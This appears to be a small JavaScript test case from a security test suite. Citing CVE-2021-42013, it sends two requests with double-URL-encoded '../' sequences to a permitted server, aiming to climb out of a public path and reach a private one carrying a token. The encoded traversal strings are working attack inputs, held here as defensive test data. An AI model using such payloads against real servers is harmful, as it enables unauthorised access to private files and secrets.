// technique: goes up from the permitted path in a way that a second decoding shows
// source: CVE-2021-42013
// success: the permitted server got the token
// control: outside
// policy: network
// beside: origins
import { get, say, TOKEN } from './wire.mjs';

for (const request of [get(`/public/%252e%252e/private/${TOKEN}`), get(`/public/%25%32%65%25%32%65/private/${TOKEN}`)])
  await say(process.env.ALLOWED_HTTP, [request]);
